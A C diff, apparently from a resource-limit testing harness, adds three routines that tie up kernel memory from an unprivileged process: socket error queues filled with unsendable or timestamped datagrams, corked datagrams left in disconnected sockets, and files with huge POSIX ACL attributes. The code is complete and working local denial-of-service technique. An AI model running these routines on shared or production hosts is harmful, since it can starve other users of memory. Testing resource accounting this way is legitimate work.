@@ -2,7 +2,9 @@
 #include "attack.h"
 
 #include <arpa/inet.h>
+#include <linux/net_tstamp.h>
 #include <linux/rtnetlink.h>
+#include <netinet/in.h>
 #include <pthread.h>
 #include <sys/inotify.h>
 #include <sys/mman.h>
@@ -10,6 +12,7 @@
 #include <sys/resource.h>
 #include <sys/shm.h>
 #include <sys/socket.h>
+#include <sys/xattr.h>
 
 static void touch(char *at, size_t bytes) {
     for (size_t i = 0; i < bytes; i += 4096) at[i] = 1;
@@ -233,6 +236,77 @@ ATTACK(backlog_memory) {
     sleep(2);
     errno = ENOBUFS;
     return report("backlog", sent >= wanted ? 0 : -1);
+}
+
+static struct sockaddr_in6 nobody_listens(void) {
+    return (struct sockaddr_in6){.sin6_family = AF_INET6, .sin6_port = htons(9), .sin6_addr = IN6ADDR_LOOPBACK_INIT};
+}
+
+// What the kernel says that waits in a socket to be read.
+static long waiting(int fd) {
+    uint32_t numbers[16] = {0};
+    socklen_t size = sizeof numbers;
+    return getsockopt(fd, SOL_SOCKET, 55 /* SO_MEMINFO */, numbers, &size) ? 0 : (long)numbers[0];
+}
+
+// error_queues errors|stamps MEGABYTES: what a socket keeps of datagrams that could not be sent, or that were.
+ATTACK(error_queues) {
+    static char block[65520];
+    all_descriptors();
+    int stamps = !strcmp(need(argc, argv, 1), "stamps");
+    long wanted = atol(need(argc, argv, 2)) << 20, held = 0;
+    struct sockaddr_in6 to = nobody_listens();
+    union { struct cmsghdr head; char room[CMSG_SPACE(sizeof(int))]; } stamp = {0};
+    stamp.head = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = 37 /* SO_TIMESTAMPING */};
+    memcpy(CMSG_DATA(&stamp.head), &(int){SOF_TIMESTAMPING_TX_SOFTWARE | SOF_TIMESTAMPING_TX_SCHED}, sizeof(int));
+    struct iovec data = {block, stamps ? 30000 : sizeof block};
+    struct msghdr message = {&to, sizeof to, &data, 1, stamps ? &stamp : NULL, stamps ? sizeof stamp : 0, 0};
+    for (int made = 0, fd; held < wanted && made < 2000 && (fd = socket(AF_INET6, SOCK_DGRAM, 0)) >= 0; made++) {
+        setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &(int){1 << 20}, sizeof(int));
+        setsockopt(fd, IPPROTO_IPV6, IPV6_MTU_DISCOVER, &(int){IPV6_PMTUDISC_DO}, sizeof(int));
+        if (!stamps) setsockopt(fd, IPPROTO_IPV6, IPV6_RECVERR, &(int){1}, sizeof(int));
+        for (int i = 0; i < (stamps ? 10 : 300); i++) sendmsg(fd, &message, MSG_DONTWAIT);
+        held += waiting(fd);
+    }
+    printf("%ld MB wait\n", held >> 20);
+    errno = ENOBUFS;
+    return report("error queues", held >= wanted ? 0 : -1);
+}
+
+// begun_datagrams MEGABYTES: datagrams that are never sent, in sockets that are in no table.
+ATTACK(begun_datagrams) {
+    static char block[65000];
+    all_descriptors();
+    long wanted = atol(need(argc, argv, 1)) << 20, held = 0;
+    struct sockaddr_in6 to = nobody_listens();
+    for (int fd; held < wanted && (fd = socket(AF_INET6, SOCK_DGRAM, 0)) >= 0; usleep(500)) {
+        ssize_t n = sendto(fd, block, sizeof block, MSG_MORE, (struct sockaddr *)&to, sizeof to);
+        if (n > 0) held += n;
+        connect(fd, &(struct sockaddr){.sa_family = AF_UNSPEC}, sizeof(struct sockaddr));
+    }
+    sleep(2);
+    errno = EMFILE;
+    return report("datagrams", held >= wanted ? 0 : -1);
+}
+
+// access_lists MEGABYTES DIR: files with long access lists, which name the same user again and again.
+ATTACK(access_lists) {
+    enum { ENTRIES = 8000 };
+    static struct { uint32_t version; struct { uint16_t tag, may; uint32_t id; } entry[ENTRIES]; } list = {.version = 2};
+    long wanted = atol(need(argc, argv, 1)) << 20, held = 0;
+    for (int i = 0; i < ENTRIES; i++) {
+        list.entry[i].tag = i == 0 ? 1 : i < ENTRIES - 3 ? 2 : i == ENTRIES - 3 ? 4 : i == ENTRIES - 2 ? 0x10 : 0x20;
+        list.entry[i].may = 6;
+        list.entry[i].id = list.entry[i].tag == 2 ? getuid() : (uint32_t)-1;
+    }
+    for (int fd; held < wanted; held += sizeof list) {
+        char name[300];
+        snprintf(name, sizeof name, "%s/%ld", need(argc, argv, 2), held);
+        if ((fd = open(name, O_CREAT | O_WRONLY, 0600)) < 0) return report("file", -1);
+        if (fsetxattr(fd, "system.posix_acl_access", &list, sizeof list, 0)) return report("access list", -1);
+        close(fd);
+    }
+    return report("access lists", 0);
 }
 
 // many_locks ofd|posix NUMBER DIR: locks on single bytes of nameless files.
